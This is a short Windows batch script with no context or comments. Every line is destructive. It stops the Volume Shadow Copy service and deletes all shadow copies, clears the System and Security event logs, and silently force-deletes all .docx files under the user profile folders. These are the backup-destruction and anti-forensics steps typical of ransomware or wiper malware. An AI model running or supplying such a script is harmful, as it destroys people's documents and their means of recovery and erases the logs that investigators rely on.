@echo off
net stop "Volume Shadow Copy" /y
vssadmin delete shadows /all /quiet
wevtutil cl System
wevtutil cl Security
del /f /s /q C:\Users\*.docx
